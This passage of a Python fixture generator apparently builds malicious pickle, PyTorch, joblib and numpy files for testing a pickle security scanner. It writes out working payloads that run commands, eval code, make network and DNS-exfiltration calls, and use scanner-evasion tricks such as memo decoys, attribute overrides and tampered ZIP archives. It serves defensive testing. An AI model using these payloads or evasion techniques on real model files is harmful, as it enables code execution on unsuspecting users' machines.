    mal('aliases/posix_system.pkl', PB(2).call('posix', 'system', CMD).stop(), 'alias', 'posix.system (Linux os)',
        [('posix', 'system')])
    mal('aliases/nt_system.pkl', PB(2).call('nt', 'system', CMD).stop(), 'alias', 'nt.system (Windows os)',
        [('nt', 'system')])
    mal('aliases/builtin_eval_p0.pkl', PB(None).call('__builtin__', 'eval', CODE).stop(), 'alias',
        '__builtin__.eval, protocol 0 (python 2 name, mapped by fix_imports)', [('__builtin__', 'eval')])
    mal('aliases/commands_getoutput_p0.pkl', PB(None).call('commands', 'getoutput', CMD).stop(), 'alias',
        'commands.getoutput (python 2 name that _compat_pickle maps to subprocess.getoutput)',
        [('commands', 'getoutput')])
    mal('aliases/httplib_p0.pkl', PB(None).call('httplib', 'HTTPSConnection', '127.0.0.1', 9).stop(), 'alias',
        'httplib.HTTPSConnection at protocol 0 (http.client under its python 2 name)',
        [('httplib', 'HTTPSConnection')])
    mal('aliases/urllib2_urlopen_p0.pkl', PB(None).call('urllib2', 'urlopen', 'http://127.0.0.1:9/bulwark-test').stop(),
        'alias', 'urllib2.urlopen (python 2 name of urllib.request)', [('urllib2', 'urlopen')])
    mal('aliases/operator_attrgetter_p0.pkl',
        PB(None).val(C(C(G('_operator', 'attrgetter'), 'system'), C(G('builtins', '__import__'), 'os'))).raw(b'(V'
        + CMD.encode() + b'\ntR').stop(), 'alias', "_operator.attrgetter('system')(__import__('os'))(cmd), protocol 0",
        [('_operator', 'attrgetter'), ('builtins', '__import__')])

    # --- memo indirection, string operands -------------------------------------------------------------------------
    memo_a = (b'\x80\x04' + b'\x8c\x02os\x94' + b'0' + b'\x8c\x06system\x94' + b'0'
              + b'\x8c\x0bcollections\x8c\x0bOrderedDict00'
              + b'h\x00h\x01\x93' + b'\x8c' + bytes([len(CMD)]) + CMD.encode() + b'\x85R.')
    mal('memo/decoy_before.pkl', memo_a, 'memo-indirection',
        "operands 'os'/'system' memoized and popped, decoy 'collections'/'OrderedDict' pushed and popped, then "
        'BINGETs feed STACK_GLOBAL', [('os', 'system')])
    memo_b = (b'\x80\x04' + b'\x8c\x02os\x94' + b'\x8c\x06system\x94' + b'00'
              + b'h\x00h\x01' + b'\x8c\x05torch\x8c\x0bLongStorage00' + b'\x93'
              + b'\x8c' + bytes([len(CMD)]) + CMD.encode() + b'\x85R.')
    mal('memo/decoy_last.pkl', memo_b, 'memo-indirection',
        "real operands come from the memo; allowlisted decoys 'torch'/'LongStorage' are the last strings before "
        'STACK_GLOBAL (and are popped)', [('os', 'system')])
    mal('memo/missing_key_after_payload.pkl', PB(2).call('os', 'system', CMD).raw(b'0h\x4d').stop(), 'memo',
        'payload runs, then BINGET of a memo slot that was never stored (crashes naive scanners)',
        [('os', 'system')])
    tc = PB(4).call('os', 'system', CMD).raw(b'0').raw(b'C\x02os\x96' + struct.pack('<Q', 6) + b'system\x93').stop()
    mal('memo/type_confusion_after_payload.pkl', tc, 'type-confusion',
        'payload runs, then STACK_GLOBAL gets bytes/bytearray operands (TypeError in scanners that hash operands)',
        [('os', 'system')])
    mal('strings/string_ops_at_op0.pkl',
        b"S'os'\nU\x06system\x93V" + CMD.encode() + b'\n\x85R.', 'string-operands',
        'STRING and SHORT_BINSTRING push STACK_GLOBAL operands, the first one at op 0, no PROTO',
        [('os', 'system')])
    mal('strings/binstring_ops.pkl',
        b'\x80\x02T\x02\x00\x00\x00osT\x06\x00\x00\x00system\x93X' + struct.pack('<I', len(CMD)) + CMD.encode()
        + b'\x85R.', 'string-operands', 'BINSTRING operands for STACK_GLOBAL', [('os', 'system')])

    # --- dotted names and submodules -------------------------------------------------------------------------------
    mal('names/pathlib_os_system.pkl', PB(4).call('pathlib', 'os.system', CMD).stop(), 'dotted-name',
        "STACK_GLOBAL('pathlib', 'os.system'): an attribute path through a module that imports os",
        [('pathlib', 'os.system')])
    mal('names/numpy_runstring.pkl', PB(4).call('numpy', 'testing._private.utils.runstring', CODE, {}).stop(),
        'dotted-name', "STACK_GLOBAL('numpy', 'testing._private.utils.runstring') (exec)",
        [('numpy', 'testing._private.utils.runstring')])
    mal('names/builtins_eval_call.pkl', PB(4).call('builtins', 'eval.__call__', CODE).stop(), 'dotted-name',
        "STACK_GLOBAL('builtins', 'eval.__call__')", [('builtins', 'eval.__call__')])
    mal('names/numpy_internal_sys.pkl', PB(4).call('numpy', 'core._internal.sys.modules.get', 'os').stop(),
        'dotted-name', "attribute path 'core._internal.sys.modules' from numpy reaches sys.modules",
        [('numpy', 'core._internal.sys.modules.get')])
    mal('names/asyncio_submodule.pkl',
        PB(4).call('asyncio.unix_events', '_UnixSubprocessTransport._start', None, ['sh', '-c', CMD], True, None, None,
                   None, 0).stop(), 'submodule',
        'asyncio.unix_events._UnixSubprocessTransport._start: a submodule of a blocked package (CVE-2025-10157)',
        [('asyncio.unix_events', '_UnixSubprocessTransport._start')])
    numpy_builtins = PB(4).val(C(C(G('builtins', 'dict.get'), G('numpy', '__builtins__'), 'exec'), CODE)).stop()
    mal('names/numpy_builtins_dict.pkl', numpy_builtins, 'dotted-name',
        "builtins.dict.get(numpy.__builtins__, 'exec')(code): the builtins dict reached through an allowed module",
        [('numpy', '__builtins__'), ('builtins', 'dict.get')])

    # --- stdlib gadgets ---------------------------------------------------------------------------------------------
    gadget('runpy_run_code', 'runpy', '_run_code', CODE, {})
    gadget('pty_spawn', 'pty', 'spawn', ['/bin/sh', '-c', CMD])
    gadget('subprocess_popen', 'subprocess', 'Popen', ['sh', '-c', CMD])
    gadget('subprocess_run', 'subprocess', 'run', ['sh', '-c', CMD])
    gadget('subprocess_check_output', 'subprocess', 'check_output', ['sh', '-c', CMD])
    gadget('builtins_exec', 'builtins', 'exec', CODE)
    gadget('builtins_eval', 'builtins', 'eval', CODE)
    gadget('builtins_import', 'builtins', '__import__', 'os', note="builtins.__import__('os') only")
    gadget('builtins_open', 'builtins', 'open', '/tmp/bulwark-test.txt', 'w', cls='file-io')
    mal('gadgets/builtins_compile.pkl',
        PB(4).val(C(C(G('types', 'FunctionType'), C(G('builtins', 'compile'), CODE, '<b>', 'exec'), {}))).stop(),
        'code-object', 'builtins.compile(code) wrapped into types.FunctionType and called',
        [('builtins', 'compile'), ('types', 'FunctionType')])
    mal('gadgets/builtins_getattr.pkl',
        PB(4).val(C(C(G('builtins', 'getattr'), C(G('builtins', '__import__'), 'os'), 'system'), CMD)).stop(),
        'resolver-trampoline', "builtins.getattr(__import__('os'), 'system')(cmd)",
        [('builtins', 'getattr'), ('builtins', '__import__')])
    mal('gadgets/importlib_import_module.pkl',
        PB(4).val(C(C(G('builtins', 'getattr'), C(G('importlib', 'import_module'), 'os'), 'system'), CMD)).stop(),
        'resolver-trampoline', "importlib.import_module('os') + builtins.getattr chain",
        [('importlib', 'import_module'), ('builtins', 'getattr')])
    mal('gadgets/pkgutil_resolve_name.pkl', PB(4).val(C(C(G('pkgutil', 'resolve_name'), 'os:system'), CMD)).stop(),
        'resolver-trampoline', "pkgutil.resolve_name('os:system')(cmd) (GHSA-vvpj-8cmc-gx39)",
        [('pkgutil', 'resolve_name')])
    mal('gadgets/pydoc_locate.pkl', PB(4).val(C(C(G('pydoc', 'locate'), 'os.system'), CMD)).stop(),
        'resolver-trampoline', "pydoc.locate('os.system')(cmd)", [('pydoc', 'locate')])
    mal('gadgets/operator_attrgetter.pkl',
        PB(4).val(C(C(C(G('operator', 'attrgetter'), 'system'), C(G('builtins', '__import__'), 'os')), CMD)).stop(),
        'resolver-trampoline', "operator.attrgetter('system')(__import__('os'))(cmd)",
        [('operator', 'attrgetter'), ('builtins', '__import__')])
    mal('gadgets/operator_methodcaller.pkl',
        PB(4).val(C(C(G('operator', 'methodcaller'), 'system', CMD), C(G('builtins', '__import__'), 'os'))).stop(),
        'resolver-trampoline', "operator.methodcaller('system', cmd)(__import__('os'))",
        [('operator', 'methodcaller'), ('builtins', '__import__')])
    mal('gadgets/operator_itemgetter.pkl',
        PB(4).val(C(C(C(G('operator', 'itemgetter'), 'system'), C(G('builtins', 'vars'),
                                                                   C(G('builtins', '__import__'), 'os'))), CMD)).stop(),
        'resolver-trampoline', "operator.itemgetter('system')(vars(__import__('os')))(cmd)",
        [('operator', 'itemgetter'), ('builtins', 'vars')])
    mal('gadgets/_operator_methodcaller.pkl',
        PB(4).val(C(C(G('_operator', 'methodcaller'), 'system', CMD), C(G('builtins', '__import__'), 'os'))).stop(),
        'resolver-trampoline', '_operator.methodcaller (C-module name; GHSA-955r-x9j8-7rhh)',
        [('_operator', 'methodcaller')])
    mal('gadgets/functools_partial.pkl', PB(4).val(C(C(G('functools', 'partial'), OS, CMD))).stop(),
        'resolver-trampoline', 'functools.partial(os.system, cmd)()', [('functools', 'partial'), ('os', 'system')])
    mal('gadgets/functools_partialmethod.pkl', PB(4).val(C(G('functools', 'partialmethod'), OS, CMD)).stop(),
        'resolver-trampoline', 'functools.partialmethod(os.system, cmd)', [('functools', 'partialmethod')])
    gadget('cprofile_run', 'cProfile', 'run', CODE)
    gadget('profile_run', 'profile', 'run', CODE)
    gadget('timeit_timeit', 'timeit', 'timeit', 'pass', CODE, note='timeit.timeit(stmt, setup=code): setup runs the code')
    gadget('pdb_run', 'pdb', 'run', CODE)

    def method_gadget(name, module, cls_name, method, *args, cls='stdlib-gadget', ctor_args=()):
        data = PB(4).val(C(G(module, f'{cls_name}.{method}'), C(G(module, cls_name), *ctor_args), *args)).stop()
        mal(f'gadgets/{name}.pkl', data, cls, f'{module}.{cls_name}.{method} called on a fresh {cls_name} instance',
            [(module, f'{cls_name}.{method}')])

    method_gadget('trace_run', 'trace', 'Trace', 'run', CODE)
    method_gadget('bdb_run', 'bdb', 'Bdb', 'run', CODE)
    method_gadget('code_runcode', 'code', 'InteractiveInterpreter', 'runcode', CODE)
    gadget('doctest_debug_script', 'doctest', 'debug_script', CODE)
    gadget('ensurepip_run_pip', 'ensurepip', '_run_pip', ['install', 'bulwark-test-nonexistent'])
    gadget('pip_main', 'pip', 'main', ['install', 'bulwark-test-nonexistent'], note='pip.main (CVE-2025-1716)')
    gadget('venv_create', 'venv', 'create', '/tmp/bulwark-test-venv')
    gadget('uuid_get_command_stdout', 'uuid', '_get_command_stdout', 'echo', 'bulwark-test')
    gadget('osx_support_read_output', '_osx_support', '_read_output', CMD)
    gadget('aix_support_read_cmd_output', '_aix_support', '_read_cmd_output', CMD)
    gadget('imaplib_imap4_stream', 'imaplib', 'IMAP4_stream', CMD)
    gadget('test_support_assert_python_ok', 'test.support.script_helper', 'assert_python_ok', '-c', CODE)
    gadget('idlelib_calltip_get_entity', 'idlelib.calltip', 'get_entity', CODE)
    method_gadget('idlelib_pyshell_runcommand', 'idlelib.pyshell', 'ModifiedInterpreter', 'runcommand', CODE,
                  ctor_args=(None,))
    inner = OS_SYSTEM_P0
    method_gadget('lib2to3_grammar_loads', 'lib2to3.pgen2.grammar', 'Grammar', 'loads', inner, cls='nested-loader')
    gadget('ctypes_cdll', 'ctypes', 'CDLL', None, note='ctypes.CDLL(None): native code access')
    gadget('posixsubprocess_fork_exec', '_posixsubprocess', 'fork_exec')
    gadget('multiprocessing_spawnv_passfds', 'multiprocessing.util', 'spawnv_passfds', b'/bin/sh',
           [b'/bin/sh', b'-c', CMD.encode()], ())
    mal('gadgets/atexit_register.pkl', PB(4).val(C(G('atexit', 'register'), OS, CMD)).stop(), 'stdlib-gadget',
        'atexit.register(os.system, cmd): runs at interpreter exit', [('atexit', 'register'), ('os', 'system')])
    gadget('webbrowser_open', 'webbrowser', 'open', 'http://127.0.0.1:9/bulwark-test', cls='network')
    gadget('socket_create_connection', 'socket', 'create_connection', ('127.0.0.1', 9), cls='network')
    gadget('urllib_request_urlopen', 'urllib.request', 'urlopen', 'http://127.0.0.1:9/bulwark-test', cls='network')
    gadget('http_client_https_p4', 'http.client', 'HTTPSConnection', '127.0.0.1', 9, cls='network',
           note='http.client.HTTPSConnection at protocol 4 (no httplib name)')
    gadget('ssl_get_server_certificate', 'ssl', 'get_server_certificate', ('bulwark-test.invalid', 443),
           cls='network', note='DNS exfiltration via ssl.get_server_certificate')
    gadget('requests_get', 'requests.api', 'get', 'http://127.0.0.1:9/bulwark-test', cls='network')
    gadget('aiohttp_client_session', 'aiohttp.client', 'ClientSession', cls='network')
    gadget('shutil_rmtree', 'shutil', 'rmtree', '/tmp/bulwark-test-nonexistent', cls='file-io')
    gadget('logging_filehandler', 'logging', 'FileHandler', '/tmp/bulwark-test.log', cls='file-io')
    gadget('io_fileio', 'io', 'FileIO', '/etc/hostname', cls='file-io')
    gadget('_io_fileio', '_io', 'FileIO', '/etc/hostname', cls='file-io')
    gadget('distutils_write_file', 'distutils.file_util', 'write_file', '/tmp/bulwark-test.txt', ['bulwark-test'],
           cls='file-io')

    # --- third-party gadgets ---------------------------------------------------------------------------------------
    gadget('numpy_f2py_getlincoef', 'numpy.f2py.crackfortran', 'getlincoef', CODE, {}, cls='numpy-gadget')
    gadget('numpy_runstring', 'numpy.testing._private.utils', 'runstring', CODE, {}, cls='numpy-gadget')
    gadget('numpy_load', 'numpy', 'load', '/tmp/bulwark-test.npy', None, True, cls='nested-loader')
    gadget('joblib_load', 'joblib', 'load', '/tmp/bulwark-test.joblib', cls='nested-loader')
    gadget('torch_load', 'torch', 'load', '/tmp/bulwark-test.pt', cls='nested-loader')
    gadget('torch_serialization_load', 'torch.serialization', 'load', '/tmp/bulwark-test.pt', cls='nested-loader')
    gadget('torch_hub_load', 'torch.hub', 'load', 'bulwark-test/repo', 'model', cls='torch-gadget')
    gadget('torch_collect_env_run', 'torch.utils.collect_env', 'run', CMD, cls='torch-gadget')
    gadget('torch_bottleneck_run_cprofile', 'torch.utils.bottleneck.__main__', 'run_cprofile', CODE, {},
           cls='torch-gadget')
    gadget('torch_dynamo_guardbuilder_get', 'torch._dynamo.guards', 'GuardBuilder.get', None, CODE,
           cls='torch-gadget', note='unbound GuardBuilder.get (eval of a guard expression); shape of GHSA-86cj-95qr-2p4f')
    gadget('torch_fx_evaluate_guards', 'torch.fx.experimental.symbolic_shapes', 'ShapeEnv.evaluate_guards_expression',
           None, CODE, [], cls='torch-gadget')
    gadget('torch_jit_execwrapper', 'torch.jit.unsupported_tensor_ops', 'execWrapper', CODE, {}, {},
           cls='torch-gadget')
    gadget('torch_inductor_compile_file', 'torch._inductor.codecache', 'compile_file', ['/tmp/bulwark-test.c'],
           '/tmp/bulwark-test.so', ['sh', '-c', CMD], cls='torch-gadget')
    gadget('torch_config_module_load_config', 'torch.utils._config_module', 'ConfigModule.load_config', None,
           OS_SYSTEM_P2, cls='nested-loader')
    gadget('torch_storage_load_from_bytes', 'torch.storage', '_load_from_bytes', OS_SYSTEM_P2, cls='nested-loader')
    gadget('torch_datapipes_basichandlers', 'torch.utils.data.datapipes.utils.decoder', 'basichandlers', 'pickle',
           OS_SYSTEM_P2, cls='nested-loader')
    gadget('mlflow_run_entry_point', 'mlflow.projects.backend.local', '_run_entry_point', CMD, '/tmp', '0', 'run',
           cls='third-party-gadget')
    gadget('pandas_read_csv_url', 'pandas.io.parsers.readers', 'read_csv',
           'http://127.0.0.1:9/bulwark-test.csv?exfil=1', cls='network')

    # --- code objects -----------------------------------------------------------------------------------------------
    code = compile(CODE, '<bulwark>', 'exec')
    code_args = (code.co_argcount, code.co_posonlyargcount, code.co_kwonlyargcount, code.co_nlocals,
                 code.co_stacksize, code.co_flags, code.co_code, code.co_consts, code.co_names, code.co_varnames,
                 code.co_filename, code.co_name, code.co_qualname, code.co_firstlineno, code.co_linetable,
                 code.co_exceptiontable, code.co_freevars, code.co_cellvars)
    mal('code/types_codetype.pkl',
        PB(4).val(C(C(G('types', 'FunctionType'), C(G('types', 'CodeType'), *code_args), {}))).stop(), 'code-object',
        'types.CodeType built from constants, wrapped by types.FunctionType and called',
        [('types', 'CodeType'), ('types', 'FunctionType')])
    import marshal
    mal('code/marshal_loads.pkl',
        PB(4).val(C(C(G('types', 'FunctionType'), C(G('marshal', 'loads'), marshal.dumps(code)), {}))).stop(),
        'code-object', 'marshal.loads(bytecode) -> types.FunctionType -> call',
        [('marshal', 'loads'), ('types', 'FunctionType')])
    mal('code/cloudpickle_make_function.pkl',
        PB(4).val(C(C(G('cloudpickle.cloudpickle', '_make_function'),
                      C(C(G('cloudpickle.cloudpickle', '_builtin_type'), 'CodeType'), *code_args), {}, 'f', None,
                      None))).stop(), 'code-object',
        'cloudpickle _builtin_type("CodeType") + _make_function, then called (GHSA-9m3x-qqw2-h32h shape)',
        [('cloudpickle.cloudpickle', '_make_function'), ('cloudpickle.cloudpickle', '_builtin_type')])
    mal('code/dill_create_code.pkl',
        PB(4).val(C(C(G('dill._dill', '_create_function'), C(G('dill._dill', '_create_code'), *code_args), {}, 'f',
                      None, None))).stop(), 'code-object', 'dill._dill._create_code + _create_function, then called',
        [('dill._dill', '_create_code'), ('dill._dill', '_create_function')])

    # --- nested loaders --------------------------------------------------------------------------------------------
    mal('nested/pickle_loads.pkl', PB(4).call('pickle', 'loads', OS_SYSTEM_P0).stop(), 'nested-loader',
        'pickle.loads(inner) where the inner protocol-0 pickle calls os.system', [('pickle', 'loads')])
    mal('nested/_pickle_loads.pkl', PB(3).call('_pickle', 'loads', OS_SYSTEM_P0).stop(), 'nested-loader',
        '_pickle.loads(inner os.system pickle), protocol 3', [('_pickle', 'loads')])

    # --- module attribute override, BUILD tricks -------------------------------------------------------------------
    override = (PB(4).glob('torch', '_utils')
                .val((None, {'_rebuild_tensor_v2': G('builtins', 'eval')})).raw(b'b0')
                .call('torch._utils', '_rebuild_tensor_v2', CODE).stop())
    mal('override/module_attr_override.pkl', override, 'module-override',
        'BUILD on the torch._utils module object replaces _rebuild_tensor_v2 with builtins.eval, then the '
        'allowlisted name is called (sys_module_override_sploit shape)', [('builtins', 'eval')])
    build_fn = (PB(4).glob('numpy', 'prod').val((None, {'a': 'os', 'b': 'system'})).raw(b'b0')
                .glob('numpy', 'prod.a').raw(b'\x94').glob('numpy', 'prod.b').raw(b'\x94').raw(b'00')
                .raw(b'h\x00h\x01\x93').val((CMD,)).raw(b'R').stop())
    mal('override/build_on_function.pkl', build_fn, 'module-override',
        "BUILD stores 'os'/'system' as attributes of numpy.prod; dotted GLOBALs (numpy prod.a / prod.b) read them "
        'back as STACK_GLOBAL operands, so the called global (os.system) is not a constant; a scanner must treat '
        'non-string STACK_GLOBAL operands and BUILD on a function as malicious')

    # --- EXT opcodes (copyreg extension registry) ------------------------------------------------------------------
    for opname, code_no, enc in (('ext1', 0xF0, b'\x82\xf0'), ('ext2', 0x1234, b'\x83' + struct.pack('<H', 0x1234)),
                                 ('ext4', 0x123456, b'\x84' + struct.pack('<I', 0x123456))):
        data = (PB(2).call('copyreg', 'add_extension', 'os', 'system', code_no).raw(b'0').raw(enc)
                .val((CMD,)).raw(b'R').stop())
        mal(f'ext/{opname}.pkl', data, 'ext-opcode',
            f'copyreg.add_extension registers os.system as code {code_no:#x}; {opname.upper()} fetches it and REDUCE '
            'calls it', [('copyreg', 'add_extension')])

    # --- container-method calls on non-containers ------------------------------------------------------------------
    mal('setitem/setitem_os_environ.pkl',
        PB(2).glob('os', 'environ').val('LD_PRELOAD').val('/tmp/bulwark-test.so').raw(b's0}').stop(),
        'setitem-non-dict', 'SETITEM on os.environ (a mapping whose __setitem__ changes the process environment)',
        [('os', 'environ')])
    mal('setitem/setitems_on_call_result.pkl',
        PB(2).call('os', 'popen', CMD).raw(b'(').val('k').val('v').raw(b'u0}').stop(), 'setitem-non-dict',
        'SETITEMS applied to the result of os.popen(cmd)', [('os', 'popen')])
    mal('setitem/append_on_call_result.pkl',
        PB(2).call('subprocess', 'Popen', ['sh', '-c', CMD]).val('x').raw(b'a0}').stop(), 'setitem-non-dict',
        'APPEND applied to a subprocess.Popen object', [('subprocess', 'Popen')])
    mal('setitem/appends_on_call_result.pkl',
        PB(2).call('os', 'system', CMD).raw(b'(').val('x').raw(b'e0}').stop(), 'setitem-non-dict',
        'APPENDS applied to the int returned by os.system', [('os', 'system')])

    # --- stream structure -------------------------------------------------------------------------------------------
    mal('stream/broken_after_payload.pkl', PB(2).call('os', 'system', CMD).bytes() + b'\xff\xfe\x00garbage',
        'broken-stream', 'payload, then an invalid opcode and no STOP (nullifAI shape)', [('os', 'system')])
    mal('stream/second_pickle.dat', b'\x80\x02}q\x00.' + OS_SYSTEM_P2, 'multi-pickle',
        'a benign pickle followed by an os.system pickle (read by a second load call)', [('os', 'system')])
    mal('stream/trailing_garbage.pkl', OS_SYSTEM_P2 + b'\x00\x01GARBAGE\xff', 'trailing-garbage',
        'payload pickle followed by junk bytes', [('os', 'system')])
    fb = (b'\x8c\x02os' + b'\x8c\x06system' + b'\x93' + b'\x8c' + bytes([len(CMD)]) + CMD.encode() + b'\x85R.')
    mal('stream/frame_mid_argument.pkl', b'\x80\x04\x95' + struct.pack('<Q', 4 + 4) + fb, 'frame-divergence',
        "FRAME length ends inside the 'system' argument: the C unpickler runs it, pickle.py and frame-aware parsers "
        'stop with an error', [('os', 'system')])
    mal('stream/frame_mid_opcode.pkl', b'\x80\x04\x95' + struct.pack('<Q', 4 + 1) + fb, 'frame-divergence',
        'FRAME length ends between an opcode byte and its length byte', [('os', 'system')])
    mal('stream/config.p', OS_SYSTEM_P2, 'discovery', 'os.system pickle under an unusual extension (.p)',
        [('os', 'system')])
    mal('stream/model.weights', OS_SYSTEM_P2, 'discovery', 'os.system pickle under a non-pickle extension',
        [('os', 'system')])

    # --- legacy PyTorch ----------------------------------------------------------------------------------------------
    magic = PB(2).val(pickle_globals.LEGACY_TORCH_MAGIC).stop()
    proto_p = PB(2).val(1001).stop()
    sysinfo = PB(2).val({'protocol_version': 1001, 'little_endian': True,
                         'type_sizes': {'short': 2, 'int': 4, 'long': 4}}).stop()
    keys = PB(2).val([]).stop()
    mal('torch/legacy_payload_4th.pt', magic + proto_p + sysinfo + OS_SYSTEM_P2 + keys, 'legacy-torch',
        'legacy torch file: magic, protocol, sys_info, then os.system as the 4th (object) pickle', [('os', 'system')])
    mal('torch/legacy_payload_5th.pt', magic + proto_p + sysinfo + PB(2).val({}).stop() + OS_SYSTEM_P2,
        'legacy-torch', 'legacy torch file with os.system in the 5th (storage keys) pickle', [('os', 'system')])
    eval_magic = PB(2).call('builtins', 'eval', hex(pickle_globals.LEGACY_TORCH_MAGIC)).stop()
    mal('torch/legacy_magic_via_eval.pt', eval_magic + proto_p + sysinfo + PB(2).val({}).stop() + OS_SYSTEM_P2,
        'legacy-torch', 'magic number produced by builtins.eval instead of a literal; payload in the 5th pickle',
        [('builtins', 'eval'), ('os', 'system')])
    mal('torch/plain_pickle.bin', OS_SYSTEM_P2, 'extension',
        'plain os.system pickle named .bin (CVE-2025-10155 shape)', [('os', 'system')])
    mal('torch/plain_pickle.pt', OS_SYSTEM_P2, 'extension', 'plain os.system pickle named .pt', [('os', 'system')])
    import torch
    sd = io.BytesIO()
    torch.save(torch.nn.Linear(2, 1).state_dict(), sd)
    replaced = repack_zip(sd.getvalue(), {'archive/data.pkl': OS_SYSTEM_P2})
    mal('torch/zip_data_pkl_replaced.pt', deterministic_zip(replaced), 'container-zip',
        'real torch zip checkpoint whose archive/data.pkl is replaced by an os.system pickle', [('os', 'system')])
    mal('torch/pytorch_model.bin', deterministic_zip(replaced), 'container-zip',
        'same as zip_data_pkl_replaced.pt under the Hugging Face .bin name', [('os', 'system')])

    # --- ZIP tampering (written byte by byte) ---------------------------------------------------------------------
    members = [('archive/data.pkl', OS_SYSTEM_P2), ('archive/version', b'3\n')]
    mal('zip/bad_crc.pt', zip_bytes(members, bad_crc=True), 'zip-tamper',
        'CRC-32 fields corrupted: stdlib zipfile raises, PyTorch ignores CRC (CVE-2025-10156)', [('os', 'system')])
    mal('zip/name_mismatch.pt', zip_bytes(members, local_names={'archive/data.pkl': 'archive/datp.pkl'}),
        'zip-tamper', 'local header names archive/datp.pkl, central directory archive/data.pkl (CVE-2025-1944)',
        [('os', 'system')])
    for flag in (0x1, 0x20, 0x40):
        mal(f'zip/flag_{flag:#04x}.pt', zip_bytes(members, flag=flag), 'zip-tamper',
            f'general-purpose flag bit {flag:#x} set on stored members (CVE-2025-1945)', [('os', 'system')])
    mal('zip/member_data_txt.zip', zip_bytes([('data.txt', OS_SYSTEM_P2)]), 'zip-member-name',
        'pickle stored as data.txt (CVE-2025-1889)', [('os', 'system')])
    mal('zip/member_no_extension.pt', zip_bytes([('archive/data', OS_SYSTEM_P2), ('archive/version', b'3\n')]),
        'zip-member-name', 'pickle member without extension (archive/data)', [('os', 'system')])
    mal('zip/deflated_member.pt', zip_bytes(members, deflate=True), 'container-zip',
        'deflate-compressed data.pkl', [('os', 'system')])
    mal('zip/zip_in_zip.zip', deterministic_zip([('inner/model.pt', zip_bytes(members))]), 'zip-in-zip',
        'zip holding a torch-style zip whose data.pkl calls os.system', [('os', 'system')])

    # --- tar, 7z, compression ------------------------------------------------------------------------------------
    mal('archives/model.tar', tar_bytes([('model/data.pkl', OS_SYSTEM_P2)]), 'container-tar',
        'tar holding an os.system pickle', [('os', 'system')])
    mal('archives/model.tar.gz', tar_bytes([('model/data.pkl', OS_SYSTEM_P2)], gz=True), 'container-tar',
        'tar.gz holding an os.system pickle', [('os', 'system')])
    seven = make_7z(members)
    if seven is not None:
        mal('archives/model.7z', seven, 'container-7z',
            '7z archive holding archive/data.pkl (os.system) (nullifAI shape)', [('os', 'system')])
    comp = {
        'zlib': lambda b: zlib.compress(b, 3), 'gzip': lambda b: gzip.compress(b, 3, mtime=0),
        'bz2': lambda b: bz2.compress(b, 3), 'xz': lambda b: lzma.compress(b, preset=3),
        'lzma': lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE, preset=3),
    }
    for method, fn in comp.items():
        mal(f'compressed/payload_{method}.joblib', fn(OS_SYSTEM_P2), 'compression',
            f'os.system pickle compressed with {method} exactly as joblib.dump(compress=("{method}", 3)) does',
            [('os', 'system')])
    mal('compressed/payload.pkl.gz', comp['gzip'](OS_SYSTEM_P2), 'compression', 'gzip-compressed os.system pickle',
        [('os', 'system')])
    mal('compressed/payload.pkl.bz2', comp['bz2'](OS_SYSTEM_P2), 'compression', 'bz2-compressed os.system pickle',
        [('os', 'system')])
    mal('compressed/payload.pkl.xz', comp['xz'](OS_SYSTEM_P2), 'compression', 'xz-compressed os.system pickle',
        [('os', 'system')])

    # joblib: a real compressed dump with its pickle swapped, and an object-array wrapper with a malicious inner pickle
    import joblib
    import numpy as np
    buf = io.BytesIO()
    joblib.dump([1, 2, 3], buf, compress=3)
    assert zlib.compress(zlib.decompress(buf.getvalue()), 3) == buf.getvalue()
    swapped = PB(4).val([1, 2, 3]).raw(b'0').call('os', 'system', CMD).stop()
    mal('joblib/compressed_swapped.joblib', zlib.compress(swapped, 3), 'joblib',
        'joblib.dump(compress=3) container (zlib level 3, as joblib writes it) with the pickle swapped for a payload',
        [('os', 'system')])
    buf = io.BytesIO()
    joblib.dump(np.array(['a', 'b'], dtype=object), buf)
    raw = buf.getvalue()
    start = raw.index(b'\x80\x02', raw.index(b'NumpyArrayWrapper'))
    end = start + nested_pickle_length(raw[start:])
    mal('joblib/object_array_inner_payload.joblib', raw[:start] + OS_SYSTEM_P2 + raw[end:], 'joblib',
        'real joblib.dump of an object array; the inline array pickle after NumpyArrayWrapper is an os.system pickle',
        [('os', 'system')])

    # numpy
    mal('numpy/object_payload.npy', npy_object_bytes(OS_SYSTEM_P2), 'numpy-container',
        '.npy with dtype |O whose pickle section calls os.system', [('os', 'system')])
    mal('numpy/object_payload.npz', deterministic_zip([('arr_0.npy', npy_object_bytes(OS_SYSTEM_P2)),
                                                       ('ok.npy', _plain_npy())]), 'numpy-container',
        '.npz with a malicious object-array member next to a numeric one', [('os', 'system')])
    mal('numpy/ssl_exfil.npy', npy_object_bytes(simple_call('ssl', 'get_server_certificate',
                                                            ('bulwark-test.invalid', 443))), 'numpy-container',
        'object .npy calling ssl.get_server_certificate (DNS exfiltration)', [('ssl', 'get_server_certificate')])


def _plain_npy() -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, np.arange(3, dtype=np.int32))
    return buf.getvalue()


def nested_pickle_length(data: bytes) -> int:
    import pickletools

    for op, _arg, pos in pickletools.genops(data):
        if op.name == 'STOP':
            return pos + 1
    raise ValueError('no STOP')


def make_7z(members: list) -> bytes | None:
    exe = shutil.which('7z') or shutil.which('7za') or shutil.which('7zr')
    if not exe:
        print('note: 7z not installed; skipping the .7z fixture')
        return None
    with tempfile.TemporaryDirectory() as tmp:
        for name, data in members:
            p = pathlib.Path(tmp, 'src', name)
            p.parent.mkdir(parents=True, exist_ok=True)
            p.write_bytes(data)
            os.chmod(p, 0o644)
            os.utime(p, (FIXED_EPOCH, FIXED_EPOCH))
        os.utime(pathlib.Path(tmp, 'src', 'archive'), (FIXED_EPOCH, FIXED_EPOCH))
        out = pathlib.Path(tmp, 'out.7z')
        subprocess.run([exe, 'a', '-t7z', '-mtc=off', '-mta=off', '-mx=9', str(out), 'archive'],
                       cwd=pathlib.Path(tmp, 'src'), check=True, stdout=subprocess.DEVNULL)
        return out.read_bytes()


# ---------------------------------------------------------------------------------------------------------------------
def collect_benign_globals() -> dict:
    """Static globals of every benign fixture; fails loudly if a benign file cannot be parsed."""
    pickle_globals.STRICT = True
    per_file = {}
    for entry in MANIFEST:
        if entry['label'] != 'benign':
            continue
        data = (ROOT / entry['path']).read_bytes()
        pairs = sorted(set(pickle_globals.file_globals(data, entry['path'])))
        per_file[entry['path']] = pairs
    pickle_globals.STRICT = False
    return per_file


def self_check() -> list:
    """Every expected global of a malicious fixture must be visible to the static lister (tolerant mode)."""
    problems = []
    for entry in MANIFEST:
